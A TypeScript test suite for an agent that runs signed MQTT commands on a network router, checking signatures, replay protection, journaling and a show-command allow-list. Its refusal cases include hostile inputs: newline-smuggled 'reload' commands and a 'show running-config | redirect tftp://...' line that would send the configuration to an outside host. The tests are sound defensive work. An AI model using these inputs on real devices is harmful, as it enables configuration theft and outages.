import { beforeEach, describe, expect, it } from 'vitest';
import { FakeMqttNetwork, type FakeBroker } from '../../../agent/adapters/mqtt/fake-broker.js';
import type { JournalEntry } from '../../../agent/adapters/sqlite/journal.js';
import { systemClock } from '../../../agent/ports/clock.js';
import { silentLogger } from '../../../agent/ports/logger.js';
import { CommandHandler, type CommandHandlerOptions } from '../../../agent/shell/commands/command-handler.js';
import type { RememberedNonce } from '../../../agent/shell/commands/nonce-cache.js';
import type { ReplyPayload, SignedCommand } from '../../../proto/commands.js';
import { createPayloadValidators } from '../../../proto/schemas/index.js';
import { nodeTopics, DEFAULT_ROOT } from '../../../proto/topics.js';
import { AT, command, recordingTarget, resign, testKeys, type RecordingTarget } from './command-kit.js';

const keys = testKeys();
const topics = nodeTopics(DEFAULT_ROOT, AT);
const validators = createPayloadValidators();

function setup(
  opts: Partial<CommandHandlerOptions> = {},
  journalFails = false,
  journal: JournalEntry[] = [],
  nonces: RememberedNonce[] = [],
) {
  const net = new FakeMqttNetwork();
  const agent = net.client('agent');
  const target = recordingTarget();
  let n = 0;
  const handler = new CommandHandler(
    { site: AT.site, node: AT.node, cmdTopic: topics.cmd, replyTopic: topics.reply, keys: keys.configured, ...opts },
    {
      broker: agent,
      target,
      ids: () => `r${n++}`,
      clock: systemClock,
      log: silentLogger,
      validators,
      journal: async (e, nonce) => {
        if (journalFails) throw new Error('disk full');
        journal.push(e);
        if (nonce) nonces.push(nonce);
      },
      nonceSource: () => nonces,
    },
  );
  return { net, agent, target, handler, journal, nonces };
}

const send = (h: CommandHandler, c: unknown) => h.handle(Buffer.from(typeof c === 'string' ? c : JSON.stringify(c)));
const refusal = (r: ReplyPayload) => (r.ok ? 'ok' : r.error.code);

describe('command handler', () => {
  let s: ReturnType<typeof setup>;
  beforeEach(async () => {
    s = setup();
    await s.handler.start();
    s.agent.start();
  });

  it('runs each command and replies with its tx', async () => {
    const cases: [SignedCommand, (r: RecordingTarget) => unknown][] = [
      [command(keys, 'get-state', {}), () => expect(s.target.calls.at(-1)?.method).toBe('getState')],
      [
        command(keys, 'get-routes', { family: 'ipv6', vrf: 'red' }),
        (t) => expect(t.calls.at(-1)).toEqual({ method: 'getRoutes', arg: { family: 'ipv6', vrf: 'red' } }),
      ],
      [command(keys, 'get-events', { limit: 5, kinds: ['decision'] }), (t) => expect(t.calls.at(-1)?.method).toBe('getEvents')],
      [
        command(keys, 'force-path', { peer: '192.0.2.2', source: 'Cellular0/1/0', forSec: 600 }),
        (t) => expect(t.calls.at(-1)?.arg).toMatchObject({ peer: '192.0.2.2', source: 'Cellular0/1/0', by: 'ops-1' }),
      ],
      [command(keys, 'clear-override', {}), (t) => expect(t.calls.at(-1)).toEqual({ method: 'clearOverride', arg: 'ops-1' })],
      [command(keys, 'set-policy', { policy: { preemptDelaySec: 120 } }), (t) => expect(t.calls.at(-1)?.method).toBe('applyPolicy')],
      [
        command(keys, 'run-show', { command: 'show  crypto IKEv2 sa' }),
        (t) => expect(t.calls.at(-1)).toEqual({ method: 'runShow', arg: 'show crypto ikev2 sa' }),
      ],
      [command(keys, 'rebirth', {}), (t) => expect(t.calls.at(-1)?.method).toBe('rebirth')],
    ];
    for (const [c, check] of cases) {
      const r = await send(s.handler, c);
      expect(r, c.cmd).toMatchObject({ tx: c.tx, cmd: c.cmd, ok: true });
      expect(validators.payload('reply', r)).toBeNull();
      check(s.target);
    }
    const replies = s.net.log.filter((m) => m.topic === topics.reply).map((m) => JSON.parse(m.payload.toString()) as ReplyPayload);
    expect(replies.map((r) => r.tx)).toEqual(cases.map(([c]) => c.tx));
    // accepted + done, journaled for each
    expect(s.journal.filter((e) => e.data && (e.data as { outcome: string }).outcome === 'done')).toHaveLength(cases.length);
  });

  it('answers a command that arrives on the cmd topic through the broker', async () => {
    const operator = s.net.client('operator');
    operator.start();
    await operator.subscribe(topics.reply, 1);
    const got: ReplyPayload[] = [];
    operator.onMessage((m) => got.push(JSON.parse(m.payload.toString())));
    const c = command(keys, 'get-state', {});
    await operator.publish({ topic: topics.cmd, payload: JSON.stringify(c), qos: 1 });
    await expect.poll(() => got.length).toBe(1);
    expect(got[0]).toMatchObject({ tx: c.tx, ok: true, result: { state: { active: { candidate: 'fibre-hub1' } } } });
  });

  it('refuses, replies why, and journals every refusal', async () => {
    const now = Date.now();
    const good = command(keys, 'get-state', {});
    const { sig: _sig, keyId: _k, ...unsigned } = good;
    const tampered = { ...command(keys, 'force-path', { peer: '192.0.2.1', forSec: 60 }), args: { peer: '192.0.2.66', forSec: 60 } };
    const wrongKeySig = resign({ ...good, nonce: 'x'.repeat(22) }, keys.rogue.privateKey);
    const rogue = resign({ ...good, keyId: keys.rogue.id, nonce: 'y'.repeat(22) }, keys.rogue.privateKey);
    const cases: [string, unknown][] = [
      ['malformed', 'this is not json'],
      ['malformed', { ...good, extra: 1 }],
      ['malformed', { tx: 'abc' }],
      ['unsigned', unsigned],
      ['unknown-key', rogue],
      ['bad-signature', tampered],
      ['bad-signature', wrongKeySig],
      ['wrong-target', command(keys, 'get-state', {}, { node: 'spoke-2' })],
      ['expired', command(keys, 'get-state', {}, { nowMs: now - 120_000, ttlSec: 60 })],
      ['not-yet-valid', command(keys, 'get-state', {}, { nowMs: now + 300_000 })],
      ['lifetime-too-long', command(keys, 'get-state', {}, { ttlSec: 3600 })],
      ['unknown-command', resign({ ...command(keys, 'get-state', {}), cmd: 'reload' as 'get-state' }, keys.ops.privateKey)],
      ['invalid-args', command(keys, 'force-path', { forSec: 60 })],
      ['invalid-args', command(keys, 'force-path', { peer: '192.0.2.1', forSec: 30 * 86400 })],
      ['invalid-args', command(keys, 'force-path', { source: 'Gi0/0\nreload', forSec: 60 })],
      ['invalid-args', command(keys, 'set-policy', { policy: { preemptDelaySec: -1 } })],
      ['not-allowed', command(keys, 'run-show', { command: 'configure terminal' })],
      ['not-allowed', command(keys, 'run-show', { command: 'show running-config | redirect tftp://192.0.2.9/x' })],
      ['not-allowed', command(keys, 'run-show', { command: 'sh ip ro' })],
      ['not-allowed', command(keys, 'run-show', { command: 'show version\nreload' })],
    ];
    for (const [code, c] of cases) {
      const r = await send(s.handler, c);
      expect(refusal(r), `${code}: ${JSON.stringify(c).slice(0, 120)}`).toBe(code);
      expect(validators.payload('reply', r)).toBeNull();
      if (typeof c === 'object' && c && 'tx' in c && typeof c.tx === 'string') expect(r.tx).toBe(c.tx);
    }
    expect(s.target.calls.filter((c) => c.method !== 'validatePolicy')).toEqual([]);
    const refused = s.journal.filter((e) => ['refused', 'failed'].includes((e.data as { outcome: string }).outcome));
    expect(refused).toHaveLength(cases.length);
    expect(refused.every((e) => e.kind === 'command')).toBe(true);
  });

  it('refuses a replay, also after a restart (nonces come back from the store)', async () => {
    const c = command(keys, 'clear-override', {});
    expect(refusal(await send(s.handler, c))).toBe('ok');
    expect(refusal(await send(s.handler, c))).toBe('replayed');
    const restarted = setup({}, false, s.journal, s.nonces);
    await restarted.handler.start();
    expect(refusal(await send(restarted.handler, c))).toBe('replayed');
    expect(restarted.target.calls).toEqual([]);
  });

  it('keeps the nonce cache bounded: full of unexpired nonces, it refuses as busy', async () => {
    const small = setup({ maxNonces: 2 });
    await small.handler.start();
    expect(refusal(await send(small.handler, command(keys, 'get-state', {})))).toBe('ok');
    expect(refusal(await send(small.handler, command(keys, 'get-state', {})))).toBe('ok');
    expect(refusal(await send(small.handler, command(keys, 'get-state', {})))).toBe('busy');
  });

  it('does not run a command it cannot journal, and reports failures and timeouts', async () => {
    const noJournal = setup({}, true);
    await noJournal.handler.start();
    expect(refusal(await send(noJournal.handler, command(keys, 'rebirth', {})))).toBe('unavailable');
    expect(noJournal.target.calls).toEqual([]);

    const slow = setup({ actionTimeoutMs: 50 });
    await slow.handler.start();
    slow.target.hang = true;
    expect(refusal(await send(slow.handler, command(keys, 'run-show', { command: 'show version' })))).toBe('timeout');

    s.target.forcePath = () => {
      throw Object.assign(new Error('no such candidate'), { code: 'POLICY_UNKNOWN_PATH' });
    };
    const r = await send(s.handler, command(keys, 'force-path', { peer: '198.51.100.1', forSec: 60 }));
    expect(r).toMatchObject({ ok: false, error: { code: 'failed', message: 'POLICY_UNKNOWN_PATH: no such candidate' } });
  });

  it('caps run-show output', async () => {
    const capped = setup({ maxShowOutputBytes: 10 });
    await capped.handler.start();
    const r = await send(capped.handler, command(keys, 'run-show', { command: 'show version' }));
    expect(r).toMatchObject({ ok: true, result: { command: 'show version', truncated: true, output: 'Cisco IOS ' } });
  });

  it('ignores its own replies and other topics', async () => {
    const agent: FakeBroker = s.agent;
    await agent.subscribe(topics.reply, 1);
    await agent.publish({ topic: topics.reply, payload: '{}', qos: 1 });
    expect(s.journal).toEqual([]);
  });
});
